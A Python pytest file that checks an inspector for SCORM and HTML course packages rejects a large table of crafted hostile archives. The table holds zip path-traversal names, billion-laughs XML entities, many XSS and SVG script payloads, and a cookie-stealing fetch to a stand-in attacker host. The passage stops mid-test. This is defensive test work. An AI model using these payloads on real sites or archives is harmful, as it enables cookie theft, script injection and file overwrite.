"""Only what we write is sound: whatever else a package holds is told, each for its own reason, and nothing is written."""

from __future__ import annotations

import json
import stat
import sys
import tracemalloc
import zipfile
from collections.abc import Iterator
from io import BytesIO
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import html as lxml_html

from bundle_factory import GOLDEN, GOLDEN_PACKAGES, plain_assets
from conftest import NIGHT
from enclair import __version__
from enclair.bundle import admitted
from enclair.bundle.admitted import BIGGEST, FORMER, SHELL_ATTRIBUTES, SHELL_TAGS, page_faults
from enclair.bundle.archive import deflate, zip_archive
from enclair.bundle.counts import Counts
from enclair.bundle.open_data import json_file
from enclair.bundle.slots import SHEET
from enclair.bundle.tree import NOTES, PROVENANCE, notes_script, shared_files
from enclair.formats import inspect
from enclair.formats.inspect import PACKAGE_RULES, PackageReport, inspect_archive
from enclair.formats.manifest import MANIFEST
from hostile import (
    IMAGE,
    PAGE,
    Entry,
    Files,
    Make,
    archive,
    contents,
    entries,
    holding,
    html_only,
    ours,
    picture,
    plus,
    rewritten,
    signed,
    with_body,
    zipped,
)

LAUGHS = '<!DOCTYPE m [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True)
) + "]>"  # fmt: skip
FIRST_LINE = "<?xml version='1.0' encoding='UTF-8'?>\n"
HEAD_END = "</head>"


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> Files:
    """The files of a package of ours."""
    return ours(tmp_path_factory.mktemp("paquet"))


def without(name: str) -> Make:
    return lambda files: zipped({other: data for other, data in files.items() if other != name})


def manifest(data: bytes) -> Make:
    return lambda files: zipped({**files, MANIFEST: data})


def in_manifest(old: str, new: str) -> Make:
    return rewritten(MANIFEST, old, new)


def provenance(data: bytes) -> Make:
    return lambda files: zipped({**files, PROVENANCE: data})


def in_provenance(**changes: object) -> Make:
    return lambda files: zipped({**files, PROVENANCE: json_file(json.loads(files[PROVENANCE]) | changes)})


def head(line: str) -> Make:
    return rewritten(PAGE, HEAD_END, f"{line}\n{HEAD_END}")


HOSTILE: dict[str, tuple[Make, set[str]]] = {
    # not an archive
    "vide": (lambda _: b"", {"PAQ001"}),
    "texte": (lambda _: b"bonjour", {"PAQ001"}),
    "coupee-au-debut": (lambda files: zipped(files)[:900], {"PAQ001"}),
    "coupee-a-la-fin": (lambda files: zipped(files)[:-3], {"PAQ001"}),
    "archive-vide": (lambda _: archive([]), {"PAQ011"}),
    # names that leave the folder
    "remonte": (plus(Entry(b"../mal.html")), {"PAQ002", "PAQ009", "PAQ010"}),
    "remonte-plus-loin": (plus(Entry(b"a/../../mal.html")), {"PAQ002", "PAQ009", "PAQ010"}),
    "absolu": (plus(Entry(b"/tmp/mal.html")), {"PAQ002", "PAQ009", "PAQ010"}),
    "lecteur": (plus(Entry(b"C:/mal.html")), {"PAQ002", "PAQ009", "PAQ010"}),
    "lecteur-relatif": (plus(Entry(b"c:mal.html")), {"PAQ002", "PAQ009", "PAQ010"}),
    "unc": (plus(Entry(b"\\\\serveur\\mal.html")), {"PAQ002", "PAQ009", "PAQ010"}),
    "barre-inverse": (holding("a\\mal.svg", "x"), {"PAQ002"}),
    "octet-nul": (holding("a\0.svg", "x"), {"PAQ002", "PAQ008"}),
    # doubles
    "double": (plus(Entry(PAGE.encode())), {"PAQ003"}),
    "double-a-la-casse-pres": (plus(Entry(PAGE.upper().encode())), {"PAQ003", "PAQ007", "PAQ009", "PAQ010"}),
    "fichier-et-dossier": (holding(f"{PAGE}/autre.svg", "x"), {"PAQ003", "PAQ012"}),
    # special files
    "lien-symbolique": (lambda files: archive([*entries(files)[1:], Entry(*_first(files), mode=stat.S_IFLNK | 0o777)]), {"PAQ004"}),
    "tube": (lambda files: archive([*entries(files)[1:], Entry(*_first(files), mode=stat.S_IFIFO | 0o644)]), {"PAQ004"}),
    "au-nom-d-un-autre": (lambda files: archive([*entries(files)[1:], Entry(*_first(files), mode=0o104755)]), {"PAQ004"}),
    "chiffre": (lambda files: archive([*entries(files)[1:], Entry(*_first(files), flags=1)]), {"PAQ005"}),
    # sizes
    "trop-de-fichiers": (lambda _: archive([Entry(b"%d.html" % n, b"") for n in range(2001)]), {"PAQ006"}),
    "page-enorme": (rewritten(PAGE, "</article>", f"<p>{'x' * 1_000_000}</p></article>"), {"PAQ006"}),
    "programme-enorme": (holding("enclair.js", b" " * 1_000_001), {"PAQ006"}),
    "taille-annoncee-enorme": (lambda files: archive([*entries(files)[1:], Entry(*_first(files), size=0xFFFF_FFF0)]), {"PAQ006"}),
    # names and types that we do not write
    **{f"type-{kind}": (holding(f"mal.{kind}", "x"), {"PAQ007"}) for kind in (
        "zip", "exe", "xml", "xsd", "xhtml", "htm", "json", "txt", "swf", "mjs", "wasm", "svgz", "gif", "pdf.exe", "docx",
    )},
    "sans-type": (holding("mal", "x"), {"PAQ007"}),
    "accent": (holding("é.svg", "x"), {"PAQ007"}),
    "espace": (holding("a b.svg", "x"), {"PAQ007"}),
    "majuscule": (holding("Autre.svg", "x"), {"PAQ007"}),
    "cache": (holding(".htaccess", "x"), {"PAQ007"}),
    "point-barre": (holding("./b.svg", "x"), {"PAQ007"}),
    "nom-reserve": (holding("nul.svg", "x"), {"PAQ007"}),
    "nom-reserve-en-dossier": (holding("com1/a.svg", "x"), {"PAQ007"}),
    "nom-trop-long": (holding("a" * 97 + ".svg", "x"), {"PAQ007"}),
    "sens-inverse": (holding("a\u202egvs.svg", "x"), {"PAQ007", "PAQ008"}),
    "autre-provenance": (holding("a/provenance.json", "{}"), {"PAQ007"}),
    # manifest
    "doctype": (in_manifest(FIRST_LINE, FIRST_LINE + "<!DOCTYPE manifest>"), {"PAQ008"}),
    "rires": (in_manifest(FIRST_LINE, FIRST_LINE + LAUGHS), {"PAQ008"}),
    "entite": (in_manifest("Alpha", "&alpha;"), {"PAQ008"}),
    "instruction": (in_manifest(FIRST_LINE, FIRST_LINE + '<?xml-stylesheet href="a.xsl"?>'), {"PAQ008"}),
    "commentaire": (in_manifest("<metadata>", "<!-- x --><metadata>"), {"PAQ008"}),
    "cdata": (in_manifest("ADL SCORM", "<![CDATA[ADL SCORM]]>"), {"PAQ008"}),
    "autre-encodage": (in_manifest("UTF-8", "UTF-16"), {"PAQ008"}),
    "sans-declaration": (in_manifest(FIRST_LINE, ""), {"PAQ008"}),
    "attribut-du-manifeste": (in_manifest("<metadata>", '<metadata lang="fr">'), {"PAQ008"}),
    "dependance-hors-place": (in_manifest("</resources>", '<dependency identifierref="partage"/></resources>'), {"PAQ008"}),
    "titre-hors-place": (in_manifest("</metadata>", "<title>x</title></metadata>"), {"PAQ008"}),
    "vrai-utf16": (lambda files: zipped({**files, MANIFEST: files[MANIFEST].decode().encode("utf-16")}), {"PAQ008"}),
    "xml-casse": (manifest(b"<manifest>"), {"PAQ008"}),
    "manifeste-vide": (manifest(b""), {"PAQ008", "PAQ009"}),
    "manifeste-en-page": (in_manifest("</manifest>", '<h:script xmlns:h="http://www.w3.org/1999/xhtml">x()</h:script></manifest>'), {"PAQ008"}),
    "scorm-2004": (in_manifest(">1.2<", ">2004 4th Edition<"), {"PAQ008"}),
    "suivi": (in_manifest('"asset"', '"sco"'), {"PAQ008"}),
    "suivi-par-prefixe": (in_manifest('adlcp:scormtype="asset"', 'x:scormtype="asset"'), {"PAQ008"}),
    "sans-type-de-ressource": (in_manifest(' adlcp:scormtype="asset"', ""), {"PAQ008"}),
    "autre-espace-de-noms": (in_manifest("imscp_rootv1p1p2", "imscp_rootv1p1p3"), {"PAQ008"}),
    "deux-organisations": (in_manifest("</organizations>", '<organization identifier="b"><title>b</title></organization></organizations>'), {"PAQ008"}),
    "texte-hors-place": (in_manifest("</metadata>", "</metadata>mal"), {"PAQ008"}),
    "titre-d-ailleurs": (in_manifest("<title>Alpha", "<title>Autre"), {"PAQ008"}),
    "autre-version": (in_manifest('version="2026.1"', 'version="2027.1"'), {"PAQ008"}),
    "etape-ajoutee": (in_manifest("</organization>", '<item identifier="z" identifierref="partage" isvisible="true"><title>z</title></item></organization>'), {"PAQ008"}),
    "etape-invisible": (in_manifest('isvisible="true"', 'isvisible="false"'), {"PAQ008"}),
    "manifeste-dans-un-dossier": (lambda files: zipped(signed({**html_only(files), "a/imsmanifest.xml": files[MANIFEST]})), {"PAQ007", "PAQ008"}),
    "liste-un-absent": (in_manifest('<file href="enclair.js"/>', '<file href="enclair.js"/><file href="perdu.html"/>'), {"PAQ009"}),
    "ne-liste-pas": (in_manifest('<file href="enclair.js"/>', ""), {"PAQ009"}),
    "liste-deux-fois": (in_manifest('<file href="enclair.js"/>', '<file href="enclair.js"/>' * 2), {"PAQ009"}),
    "ressource-absente": (in_manifest('identifierref="partage"', 'identifierref="perdue"'), {"PAQ009"}),
    "ressource-en-double": (in_manifest('identifier="partage"', 'identifier="ressource-alpha"'), {"PAQ009"}),
    "part-d-un-absent": (in_manifest('href="index.html"', 'href="perdu.html"'), {"PAQ009"}),
    # provenance
    "empreinte-fausse": (lambda files: zipped({**files, PAGE: files[PAGE].replace(b"Fin.", b"Faim.")}), {"PAQ010"}),
    "fichier-ajoute": (lambda files: zipped({**html_only(files), "b.svg": files[IMAGE]}), {"PAQ010"}),
    "fichier-retire": (lambda files: zipped({name: data for name, data in html_only(files).items() if name != "projection.css"}), {"PAQ010"}),
    "provenance-illisible": (provenance(b"{"), {"PAQ010"}),
    "provenance-liste": (provenance(b"[]"), {"PAQ010"}),
    "provenance-profonde": (provenance(b"[" * 100_000), {"PAQ010"}),
    "provenance-grand-nombre": (provenance(b"1" * 10_000), {"PAQ010"}),
    "provenance-pas-utf8": (provenance(b"\xff"), {"PAQ010"}),
    "une-question-de-moins": (in_provenance(contenu=Counts(3, 2, 4, 4, 1).told()), {"PAQ016"}),
    "une-page-de-trop": (in_provenance(contenu=Counts(2, 1, 2, 2, 1).told()), {"PAQ016"}),
    "revue-en-liste": (in_provenance(a_relire_avant=[]), {"PAQ010"}),
    "perte-sans-compte": (in_provenance(pertes=[{"quoi": "tout"}]), {"PAQ010"}),
    "contenu-negatif": (in_provenance(contenu=Counts(-1, 1, 2, 2, 1).told()), {"PAQ010"}),
    "fiche-d-ailleurs": (holding("cours.json", '{"@context": "https://exemple.fr"}\n'), {"PAQ012"}),
    "fiche-illisible": (holding("cours.json", "{"), {"PAQ012"}),
    "fiche-en-liste": (holding("cours.json", "[]\n"), {"PAQ012"}),
    "inventaire-d-ailleurs": (holding("inventaire.json", '{"pages": []}\n'), {"PAQ012"}),
    "inventaire-illisible": (holding("inventaire.json", "{"), {"PAQ012"}),
    "inventaire-en-liste": (holding("inventaire.json", "[]\n"), {"PAQ012"}),
    "source-retiree": (in_provenance(licence=""), {"PAQ015"}),
    "provenance-avec-plus": (in_provenance(note="x"), {"PAQ010"}),
    "provenance-autre-genre": (in_provenance(version=["1"]), {"PAQ010"}),
    "provenance-pages-chiffrees": (in_provenance(pages=[1]), {"PAQ010"}),
    "provenance-autrement-ecrite": (lambda files: zipped({**files, PROVENANCE: files[PROVENANCE] + b"\n"}), {"PAQ010"}),
    "provenance-cle-en-double": (rewritten(PROVENANCE, '"version"', '"version": "0",\n  "version"'), {"PAQ010"}),
    "sans-provenance": (lambda files: zipped({name: data for name, data in html_only(files).items() if name != PROVENANCE}), {"PAQ011"}),
    "sans-accueil": (without("index.html"), {"PAQ009", "PAQ010", "PAQ011", "PAQ013"}),
    # the head of pages
    "charset": (rewritten(PAGE, "utf-8", "iso-2022-jp"), {"PAQ012"}),
    "charset-deux-fois": (head('<meta charset="iso-2022-jp">'), {"PAQ012"}),
    "charset-plus-loin": (rewritten(PAGE, '<meta charset="utf-8">\n', ""), {"PAQ012"}),
    "bom": (rewritten(PAGE, "<!doctype", "\ufeff<!doctype"), {"PAQ012"}),
    "sans-doctype": (rewritten(PAGE, "<!doctype html>\n", ""), {"PAQ012"}),
    "rafraichissement": (head('<meta http-equiv="refresh" content="0;url=https://mal.example">'), {"PAQ012"}),
    "base": (head('<base href="https://mal.example/">'), {"PAQ012"}),
    "prechargement": (head('<link rel="preload" href="https://mal.example/x.js" as="script">'), {"PAQ012"}),
    "style-en-tete": (head("<style>@import 'https://mal.example/x.css';</style>"), {"PAQ012"}),
    "script-en-tete": (head("<script>alert(1)</script>"), {"PAQ012"}),
    "script-d-ailleurs": (head('<script src="//mal.example/x.js" defer></script>'), {"PAQ012"}),
    "feuille-comme-script": (head('<script src="enclair.css"></script>'), {"PAQ012"}),
    "base-avant-tout": (rewritten(PAGE, '"utf-8">\n', '"utf-8">\n<base href="https://mal.example/">\n'), {"PAQ012"}),
    "deux-titres": (head("<title>x</title>"), {"PAQ012"}),
    "attribut-de-html": (rewritten(PAGE, '<html lang="fr">', '<html lang="fr" onclick="x()">'), {"PAQ012"}),
    "attribut-de-body": (rewritten(PAGE, "<body>", '<body onload="x()">'), {"PAQ012"}),
    "apres-la-page": (rewritten(PAGE, "</html>", "</html><script>alert(1)</script>"), {"PAQ012"}),
    "page-vide": (holding("b.html", b""), {"PAQ012"}),
    "page-pas-utf8": (with_body(b"<p>\xff</p>"), {"PAQ012"}),
    # the body of pages: what we do not write
    **{f"balise-{tag}": (with_body(f"<{tag}>x</{tag}>"), {"PAQ012"}) for tag in (
        "script", "style", "iframe", "object", "svg", "math", "template", "noscript", "noembed", "xmp", "form",
        "x-mal", "a:b", "title", "body", "frameset", "plaintext", "video", "SCRIPT",
    )},
    "champ-plein": (with_body("<textarea><p>x</p></textarea>"), {"PAQ012"}),
    "liste-sans-option": (with_body("<select><p>x</p></select>"), {"PAQ012"}),
    "option-balisee": (with_body("<select><option><strong>x</strong></option></select>"), {"PAQ012"}),
    **{f"attribut-{name}": (with_body(f'<p {name}="x">x</p>'), {"PAQ012"}) for name in (
        "onclick", "style", "srcdoc", "http-equiv", "xmlns", "xlink:href", "is", "formaction", "ping", "background",
        "autofocus", "contenteditable", "data-autre", "ONCLICK",
    )},
    "attribut-srcset": (with_body('<p srcset="x">x</p>'), {"PAQ012", "PAQ013"}),
    "javascript": (with_body('<a href="javascript:alert(1)">x</a>'), {"PAQ012"}),
    "javascript-entite": (with_body('<a href="java&#115;cript:alert(1)">x</a>'), {"PAQ012"}),
    "javascript-coupe": (with_body('<a href="java\nscript:alert(1)">x</a>'), {"PAQ012"}),
    "donnees": (with_body('<a href="data:text/html,x">x</a>'), {"PAQ012"}),
    "image-d-ailleurs": (with_body('<img src="https://exemple.fr/a.png" alt="">'), {"PAQ012"}),
    "image-sans-protocole": (with_body('<img src="//exemple.fr/a.png" alt="">'), {"PAQ012", "PAQ013"}),
    "image-en-donnees": (with_body('<img src="data:image/svg+xml,x" alt="">'), {"PAQ012"}),
    # the body of pages: what readers do not read alike
    "octet-nul-dans-la-page": (with_body(b"\0<script>alert(1)</script>"), {"PAQ012"}),
    "tabulation-verticale": (with_body(b"<img\x0bsrc=x\x0bonerror=alert(1)>"), {"PAQ012"}),
    "retour-chariot": (with_body(b"<p>x\r</p>"), {"PAQ012"}),
    "echappement": (with_body(b'<p title="\x1b$B">a</p> <p>\x1b(B" onmouseover="alert(1)">x</p>'), {"PAQ012"}),
    "sens-d-ecriture": (with_body("<p>\u202ex</p>"), {"PAQ012"}),
    "profond": (with_body("<div>" * 300 + "</div>" * 300), {"PAQ012"}),
    "commentaire-html": (with_body("<!-- x -->"), {"PAQ012"}),
    "commentaire-vide": (with_body("<!--><script>alert(1)</script>-->"), {"PAQ012"}),
    "instruction-html": (with_body("<?php x ?>"), {"PAQ012"}),
    "cdata-html": (with_body("<![CDATA[<script>alert(1)</script>]]>"), {"PAQ012"}),
    "nom-arobase": (with_body("<x@y>z</x@y>"), {"PAQ012"}),
    "attribut-arobase": (with_body('<p @click="x">x</p>'), {"PAQ012"}),
    "attribut-chevron": (with_body('<p a<script>alert(1)</script>="x">y</p>'), {"PAQ012"}),
    "chevron-dans-un-attribut": (with_body('<b title="</style><img src=x onerror=alert(1)>">x</b>'), {"PAQ012"}),
    "attribut-sans-guillemets": (with_body("<p id=x>x</p>"), {"PAQ012"}),
    "attribut-en-double": (with_body('<p id="x" id="y">x</p>'), {"PAQ012"}),
    "barre-dans-la-balise": (with_body("<p/id/x>x</p>"), {"PAQ012"}),
    "balise-vide-xml": (with_body("<p/>"), {"PAQ012"}),
    "balise-pas-fermee": (with_body("<p>x"), {"PAQ012"}),
    "balises-croisees": (with_body("<p><strong>x</p></strong>"), {"PAQ012"}),
    "fermante-avec-attribut": (with_body('<p>x</p onclick="x()">'), {"PAQ012"}),
    "balise-coupee": (with_body('<p title="x'), {"PAQ012"}),
    "article-ferme-deux-fois": (with_body("</article></main></body><script>x</script>"), {"PAQ012"}),
    "reference-inconnue": (with_body("<p>&copy;</p>"), {"PAQ012"}),
    "reference-sans-point-virgule": (with_body("<p>&amp</p>"), {"PAQ012"}),
    "reference-chiffree": (with_body("<p>&#x3c;</p>"), {"PAQ012"}),
    "reference-decimale": (with_body("<p>&#60;</p>"), {"PAQ012"}),
    # images
    "svg-script": (picture("<script>x</script>"), {"PAQ012"}),
    "svg-script-ailleurs": (picture('<script src="//mal.example/x.js"/>'), {"PAQ012"}),
    "svg-evenement": (picture('<rect onclick="x()"/>'), {"PAQ012"}),
    "svg-lien": (picture('<a href="javascript:x()"><text>x</text></a>'), {"PAQ012"}),
    "svg-animation": (picture('<set attributeName="href" to="javascript:x()"/>'), {"PAQ012"}),
    "svg-corps-etranger": (picture("<foreignObject><b/></foreignObject>"), {"PAQ012"}),
    "svg-use-ailleurs": (picture('<use href="https://mal.example/x.svg#a"/>'), {"PAQ012"}),
    "svg-image": (picture('<image href="//mal.example/x"/>'), {"PAQ012"}),
    "svg-style": (picture("<style>@import '//mal.example/x';</style>"), {"PAQ012"}),
    "svg-couleur-d-ailleurs": (picture('<rect fill="url(//mal.example/x#a)"/>'), {"PAQ012"}),
    "svg-instruction": (holding(IMAGE, '<?xml-stylesheet href="x.xsl"?><svg xmlns="http://www.w3.org/2000/svg"/>'), {"PAQ012"}),
    "svg-entite": (holding(IMAGE, '<!DOCTYPE svg [<!ENTITY x "<script/>">]><svg>&x;</svg>'), {"PAQ012"}),
    "svg-hz": (holding(IMAGE, "<?xml version='1.0' encoding='hz-gb-2312'?><svg xmlns=\"http://www.w3.org/2000/svg\"/>"), {"PAQ012"}),
    "svg-metadonnees": (picture("<metadata>Prénom Nom</metadata>"), {"PAQ012"}),
    "svg-commentaire": (picture("<!-- <script>x</script> -->"), {"PAQ012"}),
    "svg-page": (holding(IMAGE, '<g xmlns="http://www.w3.org/1999/xhtml"><text>x</text></g>'), {"PAQ012"}),
    "svg-sans-espace-de-noms": (holding(IMAGE, "<svg/>"), {"PAQ012"}),
    "svg-autre-espace-de-noms": (holding(IMAGE, '<svg xmlns="http://www.w3.org/1999/xhtml"/>'), {"PAQ012"}),
    "svg-casse": (holding(IMAGE, "<svg>"), {"PAQ012"}),
    "svg-vide": (holding(IMAGE, ""), {"PAQ012"}),
    "png-page": (holding("b.png", "<script>alert(1)</script>"), {"PAQ012"}),
    "png-avec-suite": (holding("b.png", b"\x89PNG\r\n\x1a\n" + b"\0\0\0\0IEND\xaeB`\x82" + b"<script>"), {"PAQ012"}),
    "webp-trop-long": (holding("b.webp", b"RIFF\x04\0\0\0WEBP" + b"<script>"), {"PAQ012"}),
    "jpeg-coupe": (holding("b.jpg", b"\xff\xd8\xff\xe0"), {"PAQ012"}),
    # links
    "lien-mort": (with_body('<a href="perdu.html">x</a>'), {"PAQ013"}),
    "lien-sans-protocole": (with_body('<a href="//exemple.fr/x">x</a>'), {"PAQ013"}),
    "lien-qui-sort": (with_body('<a href="../../index.html">x</a>'), {"PAQ013"}),
    "lien-a-la-racine": (with_body('<a href="/index.html">x</a>'), {"PAQ013"}),
    # programs
    "programme": (holding("mal.js", "fetch('https://mal.example/' + document.cookie)"), {"PAQ014"}),
    "programme-module": (holding("a/enclair.js", "alert(1)"), {"PAQ014"}),
    "notre-programme-change": (lambda files: zipped(signed({**files, "enclair.js": files["enclair.js"] + b"\n"})), {"PAQ014"}),
    "programmes-echanges": (lambda files: zipped(signed({**files, "enclair.js": files["projection.js"]})), {"PAQ014"}),
    "feuille": (holding("mal.css", "body {}"), {"PAQ014"}),
    "notre-feuille-changee": (lambda files: zipped(signed({**files, "enclair.css": b"@import '//mal.example/x';"})), {"PAQ014"}),
    "notes-programme": (holding(NOTES, "window.ENCLAIR_NOTES = {};\nalert(1);\n"), {"PAQ014"}),
    "notes-appel": (holding(NOTES, "window.ENCLAIR_NOTES = alert(1);\n"), {"PAQ014"}),
    "notes-sans-debut": (holding(NOTES, "{}"), {"PAQ014"}),
    "notes-autrement-ecrites": (holding(NOTES, 'window.ENCLAIR_NOTES = {"a": "x", "a": "y"};\n'), {"PAQ014"}),
    "notes-autre-genre": (holding(NOTES, notes_script({"a": ["x"]})), {"PAQ014"}),  # type: ignore[dict-item]
    "notes-page": (holding(NOTES, notes_script({"a": "<img src=x onerror=alert(1)>"})), {"PAQ012"}),
    "notes-attribut": (holding(NOTES, notes_script({"a": '<p onclick="x()">x</p>'})), {"PAQ012"}),
    # several at once, all told
    "tout-a-la-fois": (
        lambda files: archive([*entries(html_only(files)), Entry(b"../a.html"), Entry(b"A.CSS"), Entry(b"z.exe"), Entry(b"B.svg", flags=1)]),
        {"PAQ002", "PAQ005", "PAQ007", "PAQ010"},
    ),
}  # fmt: skip


def _first(files: Files) -> tuple[bytes, bytes]:
    name, data = next(iter(files.items()))
    return name.encode(), data


SOUND: dict[str, Make] = {
    "scorm": zipped,
    "html": lambda files: zipped(html_only(files)),
    "signe-a-nouveau": lambda files: zipped(signed(files)),
    "stocke": lambda files: archive([Entry(name.encode(), data, method=0) for name, data in files.items()]),
    "dans-un-autre-ordre": lambda files: zipped(dict(reversed(files.items()))),
    "sans-droits": lambda files: archive([Entry(name.encode(), data, mode=0) for name, data in files.items()]),
    "adresses": with_body('<a href="https://exemple.fr/?a=1&amp;b=2">x</a> <a href="mailto:a@exemple.fr">y</a> <a href="?x">z</a>'),
    "tout-ce-qui-est-admis": with_body(
        '<section class="x" aria-label="y"><p lang="en">a&nbsp;&lt; <br> b<input type="text" disabled></p><hr></section>'
    ),
    "notes": holding(NOTES, notes_script({"alpha-un": "<p>Un <strong>mot</strong>.</p>\n", "alpha-deux": ""})),
    "image-dans-un-dossier": holding("images/b.svg", '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"/>\n'),
    "photo": holding("b.png", b"\x89PNG\r\n\x1a\n" + b"\0\0\0\0IEND\xaeB`\x82"),
}


def judged(data: bytes, folder: Path, name: str = "essai.zip") -> PackageReport:
    path = folder / name
    path.write_bytes(data)
    return inspect_archive(path)


def is_sound(report: PackageReport) -> bool:
    """What the command says, and what its exit depends on, are one."""
    assert ("Sain" in str(report)) is (not report.problems)
    return not report.problems


@pytest.fixture(scope="module")
def writings() -> Iterator[list[str]]:
    """The files opened for writing, anywhere, while the list is watched; what hears of them can never be taken off."""
    opened: list[str] = []
    watching = [True]

    def hook(event: str, args: tuple[object, ...]) -> None:
        if not watching:
            return
        is_write = event == "open" and isinstance(args[1], str) and set("wax+") & set(args[1])
        if is_write or event in {"os.mkdir", "os.rename", "os.symlink", "os.link"}:
            opened.append(f"{event} {args}")

    sys.addaudithook(hook)
    yield opened
    watching.clear()


@pytest.mark.parametrize("case", HOSTILE)
def test_what_we_do_not_write_is_told(tmp_path: Path, files: Files, writings: list[str], case: str) -> None:
    """The codes are exactly those expected, each says why in one printable line, and nothing is written."""
    make, codes = HOSTILE[case]
    path = tmp_path / "essai.zip"
    path.write_bytes(make(files))
    writings.clear()
    report = inspect_archive(path)
    assert writings == []
    assert [other.name for other in tmp_path.iterdir()] == ["essai.zip"]
    assert {problem.code for problem in report.problems} == codes, report.problems
    assert list(report.problems) == sorted(set(report.problems))
    assert all(str(problem).isprintable() or "\u00a0" in str(problem) for problem in report.problems)
    assert not is_sound(report)
    assert "sans suivi" not in report.form


@pytest.mark.parametrize("case", SOUND)
def test_what_we_could_write_is_sound(tmp_path: Path, files: Files, case: str) -> None:
    """Nothing of what is refused above comes from the way these packages are made."""
    report = judged(SOUND[case](files), tmp_path)
    assert report.problems == ()
    assert str(report).endswith("Sain : rien à signaler.")


def test_every_rule_has_its_hostile_package() -> None:
    """No rule without a package that breaks it alone, no code without its rule."""
    assert {code for _, codes in HOSTILE.values() for code in codes} == set(PACKAGE_RULES)
    alone = {next(iter(codes)) for _, codes in HOSTILE.values() if len(codes) == 1}
    assert alone == set(PACKAGE_RULES)


@pytest.mark.parametrize("name", GOLDEN_PACKAGES)
def test_golden_packages_are_sound(tmp_path: Path, name: str) -> None:
    """With the short programs that they are made with, and only with them."""
    folder = GOLDEN / name
    golden = {path.relative_to(folder).as_posix(): deflate(path.read_bytes()) for path in folder.rglob("*.*")}
    path = tmp_path / f"{name}.zip"
    path.write_bytes(zip_archive(golden))
    assert {(problem.code, problem.entry) for problem in inspect_archive(path).problems} == {
        ("PAQ014", program) for program in shared_files() if program != SHEET
    }
    with plain_assets(tmp_path):
        assert inspect_archive(path).problems == ()


# ——— whatever is changed ———


@settings(max_examples=4_000 if NIGHT else 150)
@given(chance=st.data())
def test_a_changed_byte_is_told(files: Files, tmp_path_factory: pytest.TempPathFactory, chance: st.DataObject) -> None:
    """A package with one other byte anywhere is sound only when every name and content is the same."""
    data = bytearray(zip_archive({name: deflate(content) for name, content in files.items()}))
    place = chance.draw(st.integers(0, len(data) - 1) | st.integers(len(data) - 1500, len(data) - 1))
    data[place] ^= chance.draw(st.integers(1, 255))
    if is_sound(judged(bytes(data), tmp_path_factory.getbasetemp())):
        assert contents(bytes(data)) == files


NAMES = st.sampled_from(["index.html", "imsmanifest.xml", "enclair.js", "b.html", "b.css", "b.svg", "b/", "b.png", "b.js"]) | st.text(
    st.characters(max_codepoint=0x2FF), min_size=1, max_size=12
)


@settings(max_examples=1_500 if NIGHT else 100)
@given(chance=st.data())
def test_an_entry_added_removed_or_renamed_is_told(
    files: Files, tmp_path_factory: pytest.TempPathFactory, chance: st.DataObject
) -> None:
    """Whatever the form of the package; an entry already there may stand for itself."""
    form = chance.draw(st.sampled_from([files, html_only(files)]))
    changed = entries(form)
    victim, name = chance.draw(st.integers(0, len(changed) - 1)), chance.draw(NAMES).encode("utf-8", "replace")
    kind = chance.draw(st.sampled_from(["added", "removed", "renamed", "emptied"]))
    if kind == "added":
        data = chance.draw(st.binary(max_size=20) | st.sampled_from([*files.values()]))
        changed.insert(victim, Entry(name, data))
    elif kind == "removed":
        del changed[victim]
    elif kind == "renamed":
        changed[victim] = Entry(name, changed[victim].data)
    else:
        changed[victim] = Entry(changed[victim].name, b"")
    data = archive(changed)
    if is_sound(judged(data, tmp_path_factory.getbasetemp())):
        assert contents(data) in (files, html_only(files))  # the manifest away, or back: that is the other form


@settings(max_examples=1_500 if NIGHT else 100)
@given(chance=st.data())
def test_mangled_packages_never_break_the_inspection(
    files: Files, tmp_path_factory: pytest.TempPathFactory, chance: st.DataObject
) -> None:
    """Bytes cut, doubled or replaced, many at once: a report, never an exception."""
    data = bytearray(zip_archive({name: deflate(content) for name, content in files.items()}))
    for _ in range(chance.draw(st.integers(1, 6))):
        place = chance.draw(st.integers(0, len(data) - 1) | st.integers(max(0, len(data) - 900), len(data) - 1))
        length = chance.draw(st.integers(1, 40))
        change = chance.draw(st.sampled_from([b"", bytes(data[place : place + length]) * 2, b"\xff" * 4, bytes(4), b"PK\5\6"]))
        data[place : place + length] = change
        if not data:
            break
    if is_sound(judged(bytes(data), tmp_path_factory.getbasetemp())):
        assert contents(bytes(data)) == files


PIECES = st.lists(
    st.sampled_from([
        "<p>", "</p>", '<a href="#x">', "</a>", "<script>", "</script>", "<svg>", "<style>", "<br>", '<img src="', '"', "'", ">", "<",
        "<!--", "-->", "x", " ", "\n", "=", "/", "&amp;", "&", "\0", "\x0c", "\t", 'onclick="x()"', ' title="a"', " title='a'", "<table>",
        "</table>", "<select>", "<option>", "<template>", "<math>", "<title>", "</body>", "<details open>", "</details>", "]]>", "<![CDATA[",
    ]),
    max_size=12,
).map("".join)  # fmt: skip


NESTED = st.recursive(
    st.sampled_from(["", "x", "<br>", "&lt;", '<img src="alpha-etapes-cles.svg" alt="">', "<input>"]),
    lambda inside: st.tuples(st.sampled_from(sorted(SHELL_TAGS - {"br", "hr", "img", "input"})), st.lists(inside, max_size=3)).map(
        lambda made: f"<{made[0]}>{''.join(made[1])}</{made[0]}>"
    ),
    max_leaves=12,
)  # fmt: skip
"""Admitted elements in each other as nobody would put them."""


@settings(max_examples=4_000 if NIGHT else 150)
@given(text=NESTED | PIECES | PIECES.map(lambda text: f"<p>{text}</p>"))
def test_a_page_is_read_as_other_readers_read_it(files: Files, text: str) -> None:
    """What an admitted page becomes for libxml2, which mends in its own way, has only what is admitted too."""
    page = files[PAGE].replace(b"</article>", text.encode() + b"</article>")
    if any(code == "PAQ012" for code, _ in page_faults(PAGE, page, files)):
        return
    (body,) = lxml_html.document_fromstring(page.decode()).iter("body")
    for node in body.iterdescendants():
        assert node.tag in SHELL_TAGS, text
        assert all(name in SHELL_ATTRIBUTES or name.startswith("aria-") for name in node.attrib), text


# ——— bounds ———


@pytest.mark.parametrize("kind", sorted(BIGGEST))
def test_sizes_are_judged_before_unpacking(
    tmp_path: Path, files: Files, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    """The size that an entry announces is enough to refuse it: its stream is not even looked at."""
    read: list[str] = []
    unpack = inspect.Entry.content

    def content(entry: inspect.Entry) -> bytes | None:
        read.append(entry.name)
        return unpack(entry)

    monkeypatch.setattr(inspect.Entry, "content", content)
